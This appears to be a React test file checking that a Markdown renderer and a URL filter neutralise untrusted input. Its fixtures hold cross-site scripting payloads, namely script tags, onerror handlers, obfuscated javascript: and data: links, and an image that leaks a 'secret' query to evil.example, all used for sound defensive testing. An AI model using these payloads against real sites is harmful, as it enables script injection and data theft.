// Tests that untrusted Markdown renders inert: no raw HTML, images or unsafe links.
import { render } from "@testing-library/react";
import { SafeMarkdown, safeUrl } from "./safe-markdown";

const HOSTILE = [
  "# Title",
  "<script>window.__pwned = 1</script>",
  '<img src="https://evil.example/x.png" onerror="window.__pwned = 2">',
  "[click me](javascript:alert(1))",
  "[tabbed](java\tscript:alert(1))",
  "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![tracker](https://evil.example/leak?q=secret)",
  "[ok](https://example.org/page)",
  "[mail](mailto:someone@example.org)",
  '<a href="javascript:alert(1)">raw link</a>',
  '<iframe src="https://evil.example"></iframe>',
].join("\n\n");

describe("SafeMarkdown", () => {
  it("renders hostile Markdown inert", () => {
    const { container } = render(<SafeMarkdown>{HOSTILE}</SafeMarkdown>);
    expect(container.querySelector("h1")?.textContent).toBe("Title");
    expect(container.querySelector("script")).toBeNull();
    expect(container.querySelector("iframe")).toBeNull();
    expect(container.querySelector("img")).toBeNull();
    expect(container.querySelectorAll("[onerror]").length).toBe(0);
    for (const a of Array.from(container.querySelectorAll("a"))) {
      const href = a.getAttribute("href") ?? "";
      expect(href.startsWith("https:") || href.startsWith("mailto:")).toBe(true);
    }
    expect(container.innerHTML).not.toMatch(/javascript:/i);
    expect(container.innerHTML).not.toMatch(/data:text/i);
    expect(container.innerHTML).not.toContain("evil.example");
    expect((window as unknown as { __pwned?: number }).__pwned).toBeUndefined();
  });

  it("keeps the text of removed links and images visible", () => {
    const { getByText } = render(
      <SafeMarkdown>{"[click me](javascript:alert(1)) and ![a chart](https://x.test/c.png)"}</SafeMarkdown>,
    );
    expect(getByText("click me").tagName).toBe("SPAN");
    expect(getByText("[image: a chart]")).toBeTruthy();
  });

  it("opens safe links in a new tab without an opener or referrer", () => {
    const { getByRole } = render(<SafeMarkdown>{"[docs](https://example.org/a)"}</SafeMarkdown>);
    const link = getByRole("link", { name: "docs" });
    expect(link.getAttribute("href")).toBe("https://example.org/a");
    expect(link.getAttribute("target")).toBe("_blank");
    expect(link.getAttribute("rel")).toContain("noopener");
    expect(link.getAttribute("rel")).toContain("noreferrer");
  });

  it("renders GitHub tables and task lists", () => {
    const { container } = render(
      <SafeMarkdown>{"| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo"}</SafeMarkdown>,
    );
    expect(container.querySelectorAll("table td").length).toBe(2);
    const scroller = container.querySelector(".md-table");
    expect(scroller?.getAttribute("tabindex")).toBe("0");
    expect(scroller?.getAttribute("role")).toBe("region");
    expect(container.querySelectorAll('input[type="checkbox"]').length).toBe(2);
  });
});

describe("safeUrl", () => {
  it.each([
    ["https://example.org", true],
    ["http://example.org/x?y=1", true],
    ["mailto:a@b.c", true],
    ["javascript:alert(1)", false],
    ["JaVaScRiPt:alert(1)", false],
    [" javascript:alert(1)", false],
    ["java\nscript:alert(1)", false],
    ["data:text/html,hi", false],
    ["vbscript:msgbox", false],
    ["/relative/path", false],
    ["//evil.example/x", false],
  ])("%s allowed=%s", (url, allowed) => {
    expect(safeUrl(url) !== "").toBe(allowed);
  });
});
